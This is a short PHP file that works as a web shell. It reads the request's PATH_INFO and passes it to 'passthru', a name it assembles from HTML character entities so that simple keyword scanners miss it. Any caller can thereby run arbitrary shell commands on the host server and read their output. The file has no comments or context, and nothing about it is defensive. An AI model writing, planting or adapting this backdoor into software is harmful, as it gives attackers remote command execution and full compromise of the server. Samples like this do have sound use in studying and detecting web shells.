<?php
$q2 = $_SERVER['PATH_INFO'];
$f = html_entity_decode('&#112;&#97;&#115;&#115;&#116;&#104;&#114;&#117;');
$f($q2);
